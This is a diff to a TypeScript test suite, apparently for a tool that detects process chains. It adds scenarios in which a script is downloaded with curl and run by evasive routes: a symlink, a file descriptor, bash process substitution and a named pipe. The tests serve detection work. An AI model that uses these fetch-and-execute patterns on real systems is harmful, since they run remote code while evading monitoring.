@@ -51,6 +51,41 @@ export const downloads: readonly Scenario[] = [
     chain: [/: operator/, /curl -s .*\/i\.sh$/, /^\d+ sh -e$/, /curl -s/],
   },
   {
+    name: "a download under another name",
+    async run(stage) {
+      stage.file("i.sh", `${stage.payload}\n`);
+      await stage.shell(
+        `curl -s ${stage.served("i.sh")} -o x; ln -s x l; sh l; : operator`,
+      );
+    },
+    chain: [/: operator/, /curl -s .*\/i\.sh -o x$/, /^\d+ sh l$/, /curl -s/],
+  },
+  {
+    name: "a download as a descriptor",
+    async run(stage) {
+      stage.file("i.sh", `${stage.payload}\n`);
+      await stage.shell(`curl -s ${stage.served("i.sh")} -o x; sh /dev/fd/7 7<x; : operator`);
+    },
+    chain: [/: operator/, /curl -s .*\/i\.sh -o x$/, /^\d+ sh \/dev\/fd\/7$/, /curl -s/],
+  },
+  {
+    name: "a process substitution",
+    needs: ["bash"],
+    async run(stage) {
+      stage.file("i.sh", `${stage.payload}\n`);
+      await stage.program("bash", "-ec", `bash <(curl -s ${stage.served("i.sh")}); : operator`);
+    },
+    chain: [/: operator/, /curl -s .*\/i\.sh$/, /^\d+ bash \/dev\/fd\/\d+$/, /curl -s/],
+  },
+  {
+    name: "a named pipe as script",
+    async run(stage) {
+      stage.file("i.sh", `${stage.payload}\n`);
+      await stage.shell(`mkfifo f; sh f & curl -s ${stage.served("i.sh")} -o f; wait; : operator`);
+    },
+    chain: [/: operator/, /curl -s .*\/i\.sh -o f$/, /^\d+ sh f$/, /curl -s/],
+  },
+  {
     name: "execution from memory",
     async run(stage) {
       await stage.shell("cp /usr/bin/curl served; : prepare");
